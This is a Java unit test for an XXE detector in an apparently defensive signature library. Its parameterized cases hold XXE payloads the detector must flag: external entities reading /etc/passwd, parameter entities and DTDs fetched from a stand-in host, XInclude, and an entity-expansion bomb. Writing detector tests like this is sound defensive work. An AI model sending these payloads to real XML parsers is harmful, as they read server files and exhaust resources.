package io.periscope.detection.signature.xxe;

import static org.assertj.core.api.Assertions.assertThat;

import io.periscope.detection.signature.InputLocation;
import io.periscope.detection.signature.LocationKind;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class XxeDetectorTest {
    private final XxeDetector detector = new XxeDetector();
    private static final InputLocation BODY = new InputLocation(LocationKind.BODY, "application/xml");

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>|xxe.external-entity",
            "<!DOCTYPE d [<!ENTITY % dtd SYSTEM \"http://x.example/e.dtd\"> %dtd;]><d/>|xxe.parameter-entity",
            "<!doctype d [<!entity x public \"-//x\" \"http://x.example/\">]><d>&x;</d>|xxe.external-entity",
            "<!DOCTYPE d SYSTEM \"http://x.example/evil.dtd\"><d/>|xxe.external-dtd",
            "<!DOCTYPE l [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;\">]><l>&c;</l>|xxe.entity-expansion",
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></r>|xxe.xinclude"})
    void externalAndParameterEntitiesAreFound(String xml, String rule) {
        assertThat(detector.inspect(xml, BODY)).hasValueSatisfying(m -> assertThat(m.rule()).isEqualTo(rule));
    }

    @ParameterizedTest
    @ValueSource(strings = {"<?xml version=\"1.0\"?><order><id>7</id></order>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<!-- a comment --><a/>", "<!DOCTYPE html><html></html>"})
    void ordinaryXmlAndXhtmlAreNotXxe(String xml) {
        assertThat(detector.inspect(xml, BODY)).isEmpty();
    }
}
